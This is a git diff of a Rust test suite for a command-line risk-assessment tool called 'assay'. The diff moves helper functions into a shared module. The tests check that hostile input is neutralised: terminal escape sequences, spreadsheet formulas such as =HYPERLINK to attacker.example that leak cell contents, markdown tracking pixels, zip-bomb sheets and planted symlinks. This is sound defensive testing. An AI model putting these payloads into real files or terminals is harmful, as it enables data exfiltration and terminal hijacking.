@@ -8,24 +8,12 @@ use std::process::{Command, Output};
 
 use assay::domain::Value;
 use assay::store::{Store, Table};
+use common::bin::{arg, assay, demo_file, text};
+use common::workspace::{count, demo_store, empty_store, export_json, import_json, rows};
 
 /// A provider name that writes the clipboard, sets the window title, clears the screen, sends a one-byte CSI and
 /// turns the rest of the line around.
 const HOSTILE: &str = "Evil\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m\u{202e}gpj.exe\u{7f}";
-
-fn assay_in(dir: &Path, args: &[&str]) -> Output {
-    Command::new(env!("CARGO_BIN_EXE_assay"))
-        .args(args)
-        .current_dir(dir)
-        .env("ASSAY_CONFIG", dir.join("no-config.toml"))
-        .env_remove("ASSAY_DB")
-        .output()
-        .expect("run assay")
-}
-
-fn text(bytes: &[u8]) -> String {
-    String::from_utf8_lossy(bytes).into_owned()
-}
 
 /// The characters a terminal would act on, found in what a command printed.
 fn unsafe_chars(o: &Output) -> Vec<char> {
@@ -34,14 +22,9 @@ fn unsafe_chars(o: &Output) -> Vec<char> {
 
 /// A demo workspace in `dir` whose first engagement and its providers carry hostile names.
 fn hostile_workspace(dir: &Path) -> PathBuf {
-    let db = dir.join("w.db");
-    let out = assay_in(dir, &["demo", "--out", db.to_str().expect("utf8")]);
-    assert!(out.status.success(), "{}", text(&out.stderr));
+    let db = demo_file(dir, "w.db");
     let mut store = Store::open(&db, "tester").expect("open");
-    let providers: Vec<i64> = {
-        let mut s = store.conn().prepare("SELECT id FROM provider WHERE engagement_id = 1").expect("prepare");
-        s.query_map([], |r| r.get(0)).expect("query").collect::<Result<_, _>>().expect("ids")
-    };
+    let providers: Vec<i64> = rows(store.conn(), "SELECT id FROM provider WHERE engagement_id = 1", |r| r.get(0));
     store
         .write(|w| {
             w.update(Table::Engagement, 1, &[("name", Value::text(format!("Engagement {HOSTILE}")))])?;
@@ -70,21 +53,21 @@ fn escape_sequences_in_names_never_reach_the_terminal() {
         vec!["--db", db, "report", "Engagement"],
     ];
     for args in &runs {
-        let out = assay_in(dir.path(), args);
+        let out = assay(dir.path(), args);
         let found = unsafe_chars(&out);
         assert!(found.is_empty(), "assay {args:?} printed {found:?}:\n{}{}", text(&out.stdout), text(&out.stderr));
     }
     // The report still names the provider, with the escape shown.
-    let out = assay_in(dir.path(), &["--db", db, "report", "1"]);
+    let out = assay(dir.path(), &["--db", db, "report", "1"]);
     assert!(text(&out.stdout).contains("Evil␛"), "{}", text(&out.stdout));
     assert!(text(&out.stdout).contains("\\u{202e}gpj.exe"), "{}", text(&out.stdout));
 
     // The command line parser quotes what it did not understand.
-    let out = assay_in(dir.path(), &["--db", db, "report", "1", "--format", HOSTILE]);
+    let out = assay(dir.path(), &["--db", db, "report", "1", "--format", HOSTILE]);
     assert_eq!(out.status.code(), Some(2));
     assert!(text(&out.stderr).contains("invalid value 'Evil"), "{}", text(&out.stderr));
     assert!(unsafe_chars(&out).is_empty(), "{:?}", unsafe_chars(&out));
-    let out = assay_in(dir.path(), &["--help"]);
+    let out = assay(dir.path(), &["--help"]);
     assert!(out.status.success() && text(&out.stdout).contains("Usage"), "{}", text(&out.stdout));
 
     // verify quotes a value changed outside assay.
@@ -92,7 +75,7 @@ fn escape_sequences_in_names_never_reach_the_terminal() {
         let conn = rusqlite::Connection::open(db).expect("sqlite");
         conn.execute("UPDATE risk SET title = ?1 WHERE id = (SELECT min(id) FROM risk)", [HOSTILE]).expect("tamper");
     }
-    let out = assay_in(dir.path(), &["--db", db, "verify"]);
+    let out = assay(dir.path(), &["--db", db, "verify"]);
     assert_eq!(out.status.code(), Some(4), "{}", text(&out.stderr));
     assert!(text(&out.stdout).contains("Evil␛"), "{}", text(&out.stdout));
     let found = unsafe_chars(&out);
@@ -104,7 +87,7 @@ fn the_json_export_escapes_and_reads_back_the_same() {
     let dir = tempfile::tempdir().expect("tempdir");
     let db = hostile_workspace(dir.path());
     let db = db.to_str().expect("utf8");
-    let out = assay_in(dir.path(), &["--db", db, "export", "1", "--out", "b.json"]);
+    let out = assay(dir.path(), &["--db", db, "export", "1", "--out", "b.json"]);
     assert!(out.status.success(), "{}", text(&out.stderr));
     let json = std::fs::read_to_string(dir.path().join("b.json")).expect("read");
     assert!(!json.chars().any(assay::visible::is_unsafe));
@@ -116,14 +99,7 @@ fn the_json_export_escapes_and_reads_back_the_same() {
 
 #[test]
 fn the_workbench_screen_shows_no_control_or_bidi_character() {
-    let mut store = Store::open_in_memory("tester").expect("store");
-    store.set_fixed_now(Some(common::NOW));
-    assay::commands::demo::generate(
-        &mut store,
-        assay::commands::demo::Shape::of(assay::cli::DemoSize::Small),
-        common::today(),
-    )
-    .expect("demo");
+    let mut store = demo_store();
     store
         .write(|w| {
             w.update(Table::Engagement, 1, &[("name", Value::text(format!("E {HOSTILE}")))])?;
@@ -199,22 +175,6 @@ fn every_print_path_goes_through_the_visible_function() {
     assert!(offending.is_empty(), "printing around assay::visible:\n{}", offending.join("\n"));
 }
 
-fn demo_store() -> Store {
-    let mut store = Store::open_in_memory("tester").expect("store");
-    store.set_fixed_now(Some(common::NOW));
-    assay::commands::demo::generate(
-        &mut store,
-        assay::commands::demo::Shape::of(assay::cli::DemoSize::Small),
-        common::today(),
-    )
-    .expect("demo");
-    store
-}
-
-fn first_id(store: &Store, sql: &str) -> i64 {
-    store.conn().query_row(sql, [], |r| r.get(0)).expect("id")
-}
-
 /// Text cells a spreadsheet would run as formulas.
 const FORMULAS: &[(&str, &str)] = &[
     ("title", "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Details\")"),
@@ -226,7 +186,7 @@ const FORMULAS: &[(&str, &str)] = &[
 
 fn formula_store() -> (Store, i64) {
     let mut store = demo_store();
-    let risk = first_id(&store, "SELECT min(id) FROM risk WHERE engagement_id = 1");
+    let risk = count(&store, "SELECT min(id) FROM risk WHERE engagement_id = 1");
     let values: Vec<(&str, Value)> = FORMULAS.iter().map(|(k, v)| (*k, Value::text(*v))).collect();
     store.write(|w| w.update(Table::Risk, risk, &values)).expect("write");
     (store, risk)
@@ -374,17 +334,12 @@ fn xlsx_export_writes_formula_text_as_strings() {
 fn criminal_record_and_credit_results_of_named_people_are_withheld_by_default() {
     let mut store = demo_store();
     // Everyone's criminal-record check failed and credit check passed: neither may show next to a name.
-    let ids: Vec<(i64, String)> = store
-        .conn()
-        .prepare(
-            "SELECT c.id, c.kind FROM vetting_check c JOIN team_member m ON m.id = c.member_id
+    let ids: Vec<(i64, String)> = rows(
+        store.conn(),
+        "SELECT c.id, c.kind FROM vetting_check c JOIN team_member m ON m.id = c.member_id
              JOIN provider p ON p.id = m.provider_id WHERE p.engagement_id = 1 AND c.kind IN ('criminal_record', 'credit')",
-        )
-        .expect("prepare")
-        .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
-        .expect("query")
-        .collect::<Result<_, _>>()
-        .expect("ids");
+        |r| Ok((r.get(0)?, r.get(1)?)),
+    );
     assert!(!ids.is_empty());
     store
         .write(|w| {
@@ -396,17 +351,15 @@ fn criminal_record_and_credit_results_of_named_people_are_withheld_by_default() 
         })
         .expect("write");
     let e = assay::commands::report::resolve(store.conn(), "1").expect("engagement");
-    let md = assay::commands::report::markdown(
-        &assay::commands::report::build(store.conn(), &e, common::today(), "t", false).expect("report"),
-    );
+    let md =
+        assay::report::markdown(&assay::report::build(store.conn(), &e, common::today(), "t", false).expect("report"));
     let vetting = md.split("Vetting status").nth(1).expect("section").split("\n## ").next().unwrap_or_default();
     assert!(!vetting.contains("| criminal record |") && !vetting.contains("| credit |"), "{vetting}");
     assert!(vetting.contains("not listed by name (withheld)"), "{vetting}");
     // The counts per provider stay.
     assert!(vetting.contains("Criminal record"), "{vetting}");
-    let full = assay::commands::report::markdown(
-        &assay::commands::report::build(store.conn(), &e, common::today(), "t", true).expect("report"),
-    );
+    let full =
+        assay::report::markdown(&assay::report::build(store.conn(), &e, common::today(), "t", true).expect("report"));
     assert!(full.contains("| criminal record | ✗ failed |"), "{full}");
 
     // CSV and XLSX: no status of those checks, in either sheet that could carry one.
@@ -430,13 +383,9 @@ fn criminal_record_and_credit_results_of_named_people_are_withheld_by_default() 
     assert!(format!("{sheets:?}").contains("failed"));
 
     // The bundle leaves those checks out; with --include-sensitive they are in.
-    let plain = assay::store::bundle::read(store.conn(), Some(&[1]), false, common::NOW, &mut |_, _| {})
-        .expect("bundle")
-        .to_json();
+    let plain = export_json(&store, Some(&[1]), false);
     assert!(!plain.contains("\"criminal_record\"") && !plain.contains("\"credit\""));
-    let full = assay::store::bundle::read(store.conn(), Some(&[1]), true, common::NOW, &mut |_, _| {})
-        .expect("bundle")
-        .to_json();
+    let full = export_json(&store, Some(&[1]), true);
     assert!(full.contains("\"criminal_record\"") && full.contains("\"credit\""));
 }
 
@@ -475,14 +424,10 @@ fn a_bomb_sheet_is_refused_before_it_is_read() {
     assert!(e.to_string().contains("row 1048576") && e.to_string().contains("too large"), "{e}");
 
     // From the command line: one line, a failure code, nothing imported.
-    let db = dir.path().join("w.db");
-    let out = assay_in(dir.path(), &["demo", "--out", db.to_str().expect("utf8")]);
-    assert!(out.status.success());
+    let db = demo_file(dir.path(), "w.db");
     let before = std::fs::read(&db).expect("read");
-    let out = assay_in(
-        dir.path(),
-        &["--db", db.to_str().expect("utf8"), "import", bomb.to_str().expect("utf8"), "--into", "1"],
-    );
+    let out =
+        assay(dir.path(), &["--db", db.to_str().expect("utf8"), "import", bomb.to_str().expect("utf8"), "--into", "1"]);
     assert_eq!(out.status.code(), Some(1));
     assert!(
         text(&out.stderr).contains("too large") && text(&out.stderr).contains("nothing was imported"),
@@ -509,14 +454,10 @@ fn import_risks_csv(store: &mut Store, csv: &str) -> Result<assay::store::regist
     .map_err(|e| e.to_string())
 }
 
-fn risk_count(store: &Store) -> i64 {
-    store.conn().query_row("SELECT count(*) FROM risk", [], |r| r.get(0)).expect("count")
-}
-
 #[test]
 fn a_broken_csv_is_refused_naming_the_line() {
     let mut store = demo_store();
-    let before = risk_count(&store);
+    let before = count(&store, "SELECT count(*) FROM risk");
     // The quote opened on line 3 never closes: the rows after it would vanish into one title.
     let csv = format!(
         "{RISK_HEADER}\n,,First,,3,2,2,2,,,,,open,,,,,,,\n,,\"Second,,3,2,2,2,,,,,open,,,,,,,\n\
@@ -524,13 +465,13 @@ fn a_broken_csv_is_refused_naming_the_line() {
     );
     let e = import_risks_csv(&mut store, &csv).expect_err("unterminated quote");
     assert!(e.contains("row 3") && e.contains("never closed"), "{e}");
-    assert_eq!(risk_count(&store), before);
+    assert_eq!(count(&store, "SELECT count(*) FROM risk"), before);
 
     // A row with more cells than the header.
     let csv = format!("{RISK_HEADER}\n,,First,,3,2,2,2,,,,,open,,,,,,,\n,,Second,,3,2,2,2,,,,,open,,,,,,,,surplus\n");
     let e = import_risks_csv(&mut store, &csv).expect_err("extra cell");
     assert!(e.contains("row 3") && e.contains("column U") && e.contains("beyond the last column"), "{e}");
-    assert_eq!(risk_count(&store), before);
+    assert_eq!(count(&store, "SELECT count(*) FROM risk"), before);
 
     // Quoted cells that close, with doubled quotes and line breaks inside, and a trailing empty cell, are fine.
     let csv = format!(
@@ -555,9 +496,8 @@ fn mode(p: &Path) -> u32 {
 #[test]
 fn every_output_is_readable_by_its_owner_only() {
     let dir = tempfile::tempdir().expect("tempdir");
-    let db = dir.path().join("w.db");
-    let dbs = db.to_str().expect("utf8");
-    assert!(assay_in(dir.path(), &["demo", "--out", dbs]).status.success());
+    let db = demo_file(dir.path(), "w.db");
+    let dbs = arg(&db);
     for args in [
         vec!["--db", dbs, "export", "1", "--out", "b.json"],
         vec!["--db", dbs, "export", "1", "--format", "xlsx", "--out", "b.xlsx"],
@@ -565,7 +505,7 @@ fn every_output_is_readable_by_its_owner_only() {
         vec!["--db", dbs, "report", "1", "--out", "r.md"],
         vec!["--db", dbs, "report", "assets", "1", "--out", "a.md"],
     ] {
-        let out = assay_in(dir.path(), &args);
+        let out = assay(dir.path(), &args);
         assert!(out.status.success(), "{args:?}: {}", text(&out.stderr));
     }
     for f in ["b.json", "b.xlsx", "regs/risks.csv", "regs/assets.csv", "r.md", "a.md"] {
@@ -577,7 +517,7 @@ fn every_output_is_readable_by_its_owner_only() {
     let store = Store::open(&db, "tester").expect("open");
     let e = assay::commands::report::resolve(store.conn(), "1").expect("engagement");
     let reports = dir.path().join("reports");
-    let paths = assay::commands::report::write_both(store.conn(), &e, &reports, common::today(), "t").expect("report");
+    let paths = assay::report::write_both(store.conn(), &e, &reports, common::today(), "t").expect("report");
     assert_eq!(mode(&reports), 0o700);
     for p in &paths {
         assert_eq!(mode(p), 0o600, "{}", p.display());
@@ -596,9 +536,8 @@ fn every_output_is_readable_by_its_owner_only() {
 #[test]
 fn outputs_never_go_through_a_planted_symlink() {
     let dir = tempfile::tempdir().expect("tempdir");
-    let db = dir.path().join("w.db");
-    let dbs = db.to_str().expect("utf8");
-    assert!(assay_in(dir.path(), &["demo", "--out", dbs]).status.success());
+    let db = demo_file(dir.path(), "w.db");
+    let dbs = arg(&db);
     let elsewhere = dir.path().join("elsewhere");
     std::fs::create_dir(&elsewhere).expect("dir");
     std::os::unix::fs::symlink(&elsewhere, dir.path().join("reports")).expect("link");
@@ -609,14 +548,16 @@ fn outputs_never_go_through_a_planted_symlink() {
     app.reports_dir = dir.path().join("reports");
     common::press(&mut app, ratatui::crossterm::event::KeyCode::Char('2'));
     common::press(&mut app, ratatui::crossterm::event::KeyCode::Char('R'));
+    common::finish_work(&mut app);
     let screen = common::screen(&app);
     assert!(screen.contains("Report not written") && screen.contains("symbolic link"), "{screen}");
     common::press(&mut app, ratatui::crossterm::event::KeyCode::Char('X'));
+    common::finish_work(&mut app);
     let screen = common::screen(&app);
     assert!(screen.contains("Not exported") && screen.contains("symbolic link"), "{screen}");
     let reader = Store::open(&db, "reader").expect("open");
     let e = assay::commands::report::resolve(reader.conn(), "1").expect("engagement");
-    let err = assay::commands::report::write_both(reader.conn(), &e, &dir.path().join("reports"), common::today(), "t")
+    let err = assay::report::write_both(reader.conn(), &e, &dir.path().join("reports"), common::today(), "t")
         .expect_err("through a link");
     assert!(err.to_string().contains("symbolic link"), "{err}");
     assert_eq!(std::fs::read_dir(&elsewhere).expect("list").count(), 0, "the link received an output");
@@ -630,7 +571,7 @@ fn outputs_never_go_through_a_planted_symlink() {
         vec!["--db", dbs, "export", "1", "--format", "csv", "--out", "regs"],
         vec!["--db", dbs, "report", "1", "--out", "r.md"],
     ] {
-        let out = assay_in(dir.path(), &args);
+        let out = assay(dir.path(), &args);
         assert_eq!(out.status.code(), Some(1), "{args:?}");
         assert!(text(&out.stderr).contains("symbolic link"), "{}", text(&out.stderr));
     }
@@ -643,9 +584,8 @@ fn outputs_never_go_through_a_planted_symlink() {
 #[test]
 fn a_failed_export_leaves_the_earlier_file_whole() {
     let dir = tempfile::tempdir().expect("tempdir");
-    let db = dir.path().join("w.db");
-    let dbs = db.to_str().expect("utf8");
-    assert!(assay_in(dir.path(), &["demo", "--out", dbs]).status.success());
+    let db = demo_file(dir.path(), "w.db");
+    let dbs = arg(&db);
     let good = dir.path().join("good.json");
     std::fs::write(&good, "the earlier, good export").expect("write");
     let out = Command::new("sh")
@@ -668,16 +608,11 @@ fn a_failed_export_leaves_the_earlier_file_whole() {
 }
 
 fn demo_bundle() -> serde_json::Value {
-    let store = demo_store();
-    let text = assay::store::bundle::read(store.conn(), Some(&[1]), true, common::NOW, &mut |_, _| {})
-        .expect("bundle")
-        .to_json();
-    serde_json::from_str(&text).expect("json")
+    serde_json::from_str(&export_json(&demo_store(), Some(&[1]), true)).expect("json")
 }
 
 fn import_bundle(store: &mut Store, v: &serde_json::Value) -> Result<assay::store::bundle::Imported, String> {
-    let (engs, _) = assay::store::bundle::parse(&v.to_string()).map_err(|e| e.to_string())?;
-    assay::store::bundle::restore(store, &engs, &mut |_, _| {}).map_err(|e| e.to_string())
+    import_json(store, &v.to_string()).map_err(|e| e.to_string())
 }
 
 fn first_of<'a>(
@@ -753,14 +688,13 @@ fn a_bundle_out_of_the_forms_rules_is_refused() {
     for (what, spoil, column) in cases {
         let mut v = demo_bundle();
         spoil(&mut v);
-        let mut store = Store::open_in_memory("tester").expect("store");
+        let mut store = empty_store();
         let e = import_bundle(&mut store, &v).expect_err(what);
         assert!(e.contains(&format!(".{column}: expected")) || e.contains(&format!("), {column}: ")), "{what}: {e}");
-        let n: i64 = store.conn().query_row("SELECT count(*) FROM engagement", [], |r| r.get(0)).expect("count");
-        assert_eq!(n, 0, "{what}: something was imported");
+        assert_eq!(count(&store, "SELECT count(*) FROM engagement"), 0, "{what}: something was imported");
     }
     // Untouched, it goes in.
-    let mut store = Store::open_in_memory("tester").expect("store");
+    let mut store = empty_store();
     import_bundle(&mut store, &demo_bundle()).expect("the demo bundle");
 }
 
@@ -786,21 +720,18 @@ fn ids_at_the_top_never_wrap_on_a_later_import() {
             r["engagement_id"] = top.into();
         }
     }
-    let mut store = Store::open_in_memory("tester").expect("store");
+    let mut store = empty_store();
     import_bundle(&mut store, &v).expect("first import keeps the ids");
     let e = import_bundle(&mut store, &v).expect_err("no ids left");
     assert!(e.contains("no ids left"), "{e}");
-    let negative: i64 =
-        store.conn().query_row("SELECT count(*) FROM engagement WHERE id < 0", [], |r| r.get(0)).expect("n");
-    assert_eq!(negative, 0);
-    let n: i64 = store.conn().query_row("SELECT count(*) FROM engagement", [], |r| r.get(0)).expect("count");
-    assert_eq!(n, 1);
+    assert_eq!(count(&store, "SELECT count(*) FROM engagement WHERE id < 0"), 0);
+    assert_eq!(count(&store, "SELECT count(*) FROM engagement"), 1);
 }
 
 #[test]
 fn csv_and_xlsx_imports_refuse_relative_dates_and_unknown_catalog_items() {
     let mut store = demo_store();
-    let before = risk_count(&store);
+    let before = count(&store, "SELECT count(*) FROM risk");
     for (cell, col) in [("t", "due_date"), ("+30", "due_date"), ("+50000000", "due_date"), ("today", "due_date")] {
         let csv = format!("{RISK_HEADER}\n,,Dated,,3,2,2,2,,,,{cell},open,,,,,,,\n");
         let e = import_risks_csv(&mut store, &csv).expect_err(cell);
@@ -809,7 +740,7 @@ fn csv_and_xlsx_imports_refuse_relative_dates_and_unknown_catalog_items() {
     let csv = format!("{RISK_HEADER}\n,X-NOPE,Unknown,,3,2,2,2,,,,,open,,,,,,,\n");
     let e = import_risks_csv(&mut store, &csv).expect_err("catalog");
     assert!(e.contains("catalog_ref") && e.contains("X-NOPE"), "{e}");
-    assert_eq!(risk_count(&store), before);
+    assert_eq!(count(&store, "SELECT count(*) FROM risk"), before);
     let csv = format!("{RISK_HEADER}\n,G-T2-C1,Known,,3,2,2,2,,,,2027-01-31,open,,,,,,,\n");
     import_risks_csv(&mut store, &csv).expect("a written-out date and a known item");
 }
@@ -819,7 +750,7 @@ fn markdown_reports_keep_no_link_or_image_from_user_text() {
     const PIXEL: &str = "![x](https://attacker.example/p.png)";
     const LINK: &str = "[click](https://attacker.example/login)";
     let mut store = demo_store();
-    let risk = first_id(&store, "SELECT min(id) FROM risk WHERE engagement_id = 1");
+    let risk = count(&store, "SELECT min(id) FROM risk WHERE engagement_id = 1");
     store
         .write(|w| {
             w.update(Table::Engagement, 1, &[("name", Value::text(format!("Payroll {PIXEL}")))])?;
@@ -829,16 +760,15 @@ fn markdown_reports_keep_no_link_or_image_from_user_text() {
         })
         .expect("write");
     let e = assay::commands::report::resolve(store.conn(), "1").expect("engagement");
-    let md = assay::commands::report::markdown(
-        &assay::commands::report::build(store.conn(), &e, common::today(), "t", false).expect("report"),
-    );
+    let md =
+        assay::report::markdown(&assay::report::build(store.conn(), &e, common::today(), "t", false).expect("report"));
     let dir = tempfile::tempdir().expect("tempdir");
     let db = hostile_workspace(dir.path());
     {
         let mut s = Store::open(&db, "t").expect("open");
         s.write(|w| w.update(Table::Asset, 1, &[("description", Value::text(PIXEL))])).expect("write");
     }
-    let assets = assay_in(dir.path(), &["--db", db.to_str().expect("utf8"), "report", "assets", "1"]);
+    let assets = assay(dir.path(), &["--db", db.to_str().expect("utf8"), "report", "assets", "1"]);
     let assets = text(&assets.stdout);
     for (what, text) in [("report", &md), ("asset form", &assets)] {
         assert!(!text.contains("![x]("), "{what} keeps an image:\n{text}");
